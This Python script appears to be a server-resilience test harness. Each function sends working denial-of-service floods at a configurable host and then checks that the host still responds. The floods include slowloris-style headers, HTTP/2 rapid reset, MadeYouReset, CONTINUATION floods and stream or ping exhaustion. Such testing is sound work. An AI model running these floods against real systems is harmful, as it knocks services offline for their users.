"""Floods of what a connection is made of. Argument: a way; what it prints at the end is
what came of it."""
import socket, ssl, struct, sys, threading, time

HOST = "example.com"


def connect(port=80, host=HOST):
    one = socket.create_connection((host, port), 60)
    if port == 443:
        one = ssl.create_default_context().wrap_socket(one, server_hostname=host)
    one.settimeout(60)
    return one


def visit(host=HOST, port=80):
    with connect(port, host) as one:
        one.sendall(f"GET /ok HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        got = b""
        while part := one.recv(4096):
            got += part
        return got.endswith(b"ok")


def nothing():
    """No flood: what is held is what is always."""
    print(visit(), visit(port=443))
    time.sleep(1)


def slow_heads():
    """Heads that come a byte at a time, as many as a connection each."""
    held, until = [], time.time() + 8
    # On a busy host it takes longer until there are some.
    while len(held) < 400 and time.time() < until + (60 if len(held) <= 100 else 0):
        try:
            one = connect(443 if len(held) % 4 == 0 else 80)
            one.sendall(f"GET /slow-head HTTP/1.1\r\nHost: {HOST}\r\nX-More: ".encode())
            held.append(one)
        except OSError:
            time.sleep(0.05)
    while time.time() < until:
        for one in held:
            one.sendall(b"x")
        time.sleep(0.5)
    print(len(held) > 100, visit())


def head(count):
    lines = "".join(f"X-{number}: {'x' * 1000}\r\n" for number in range(count))
    return f"GET /ok HTTP/1.1\r\nHost: {HOST}\r\n{lines}"


def endless_heads():
    """Heads without an end, by many at once."""
    ends = []

    def send():
        with connect() as one:
            try:
                one.sendall(head(20).encode())
                for _ in range(2000):
                    one.sendall(b"X-More: " + b"x" * 4000 + b"\r\n")
                ends.append("taken")
            except OSError:
                ends.append("ended")

    threads = [threading.Thread(target=send) for _ in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with connect() as one:
        one.sendall(head(50).encode() + b"Connection: close\r\n\r\n")
        control = one.recv(4096)
    print(len(ends), set(ends), control.startswith(b"HTTP/1.1 200"))


def certificates():
    """A certificate for each of many names, of which one server is dialled for none."""
    counts = {"made": 0, "not": 0}
    names = iter(range(600))
    lock = threading.Lock()
    context = ssl.create_default_context()

    def ask():
        while True:
            with lock:
                number = next(names, None)
            if number is None:
                return
            name = f"n{number}.example.com"
            try:
                with socket.create_connection((name, 443), 60) as one:
                    with context.wrap_socket(one, server_hostname=name):
                        made = "made"
            except OSError:
                made = "not"
            with lock:
                counts[made] += 1

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(counts["made"] + counts["not"], counts["made"] > 500, visit("example.com", 443))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, MORE = 1, 3, 4, 6, 7, 8, 9
# GET, http, and the path and host, by the table that both sides know (RFC 7541, appendix A).
REQUEST = b"\x82\x86\x04\x03/ok\x41" + bytes([len(HOST)]) + HOST.encode()
CANCEL = struct.pack(">I", 8)


def speak_2():
    one = connect()
    one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return one


def frames(one):
    """What comes, until the end: kind, flags, stream, payload."""
    held = b""
    try:
        while True:
            while len(held) >= 9 and len(held) >= 9 + int.from_bytes(held[:3], "big"):
                size = 9 + int.from_bytes(held[:3], "big")
                yield held[3], held[4], int.from_bytes(held[5:9], "big"), held[9:size]
                held = held[size:]
            part = one.recv(65536)
            if not part:
                return
            held += part
    except OSError:
        return


def flood_2(pieces, answers=0):
    """Sends all of it, whatever comes; how it ended: an error's number, or `went on`, which
    takes so many answers."""
    one = speak_2()
    answered, reached = 0, False

    def send():
        try:
            for piece in pieces:
                one.sendall(piece)
            # What is answered now was taken.
            one.sendall(frame(PING, 0, 0, b"the last"))
        except OSError:
            pass

    sender = threading.Thread(target=send)
    sender.start()
    came = None
    for kind, flags, _, payload in frames(one):
        answered += kind == HEADERS
        if kind == GOAWAY:
            came = f"error {int.from_bytes(payload[4:8], 'big')}"
            break
        reached = reached or kind == PING and flags & 1 and payload == b"the last"
        if reached and answered >= answers:
            came = "went on"
            break
    one.close()
    sender.join()
    return came or "ended", answered


def requests_and_resets(count):
    for number in range(count):
        stream = 2 * number + 1
        yield frame(HEADERS, 5, stream, REQUEST) + frame(RESET, 0, stream, CANCEL)


def resets():
    """Requests that are taken back as soon as they are made (CVE-2023-44487)."""
    few, _ = flood_2(requests_and_resets(10))
    many, _ = flood_2([b"".join(requests_and_resets(5000))])
    print(few, "then", many, visit())


def own_resets():
    """Requests that the other side has to take back, since what follows is wrong (CVE-2025-8671)."""

    def pieces(count):
        for number in range(count):
            stream = 2 * number + 1
            yield frame(HEADERS, 5, stream, REQUEST) + frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF))

    few, _ = flood_2(pieces(10))
    many, _ = flood_2([b"".join(pieces(5000))])
    print(few, "then", many, visit())


def continuations():
    """Headers that go on in frame after frame (CVE-2024-27316)."""
    # A header of 261 bytes, written out.
    more = b"\x00\x01x\x7f\x86\x01" + b"x" * 261
    whole = [frame(HEADERS, 1, 1, REQUEST), frame(MORE, 0, 1, more), frame(MORE, 4, 1, b"")]
    few, answered = flood_2(whole, 1)
    many, _ = flood_2([frame(HEADERS, 1, 1, REQUEST)] + [frame(MORE, 0, 1, more)] * 50000)
    empty, _ = flood_2([frame(HEADERS, 1, 1, REQUEST)] + [frame(MORE, 0, 1)] * 50000)
    print(few, answered, "then", many, "and", empty, visit())


def unread():
    """Questions whose answers nobody reads."""
    one = speak_2()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    one.settimeout(2)
    sent = 0
    try:
        for _ in range(20000):
            one.sendall((frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0, b"\0\3\0\0\0\1")) * 100)
            sent += 100
    except OSError:
        pass
    print(sent < 2000000, visit())


def streams():
    """More requests at once than there may be, each left open."""
    pieces = [frame(HEADERS, 4, 2 * number + 1, REQUEST) for number in range(1000)]
    one = speak_2()
    one.sendall(b"".join(pieces) + frame(PING, 0, 0, b"the last"))
    refused = 0
    for kind, _, _, payload in frames(one):
        refused += kind == RESET and payload == struct.pack(">I", 7)
        if kind == PING or kind == GOAWAY:
            break
    print(refused > 800 or kind == GOAWAY, visit())


def unread_bodies():
    """Bodies that the other side may send as it likes, and nobody reads."""
    wide = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000))
    big = b"\x82\x86\x04\x04/big\x41" + bytes([len(HOST)]) + HOST.encode()
    held = []
    for _ in range(4):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.settimeout(60)
        one.connect((HOST, 80))
        one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + wide)
        one.sendall(b"".join(frame(HEADERS, 5, 2 * number + 1, big) for number in range(100)))
        held.append(one)
    time.sleep(4)
    print(len(held), visit())


def upgrade():
    """HTTP/2 after an upgrade that nobody has agreed to, with a request in it."""
    with connect() as one:
        one.sendall(
            f"GET /ok HTTP/1.1\r\nHost: {HOST}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
            "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n".encode()
        )
        first = one.recv(4096)
        denied = b"\x82\x86\x04\x07/denied\x41" + bytes([len(HOST)]) + HOST.encode()
        try:
            one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(HEADERS, 5, 3, denied))
            rest = one.recv(4096)
        except OSError:
            rest = b""
    print(first.split(b" ")[1].decode(), "101" if b" 101 " in rest else "no 101", visit())


{name: work for name, work in globals().items() if callable(work)}[sys.argv[1].replace("-", "_")]()
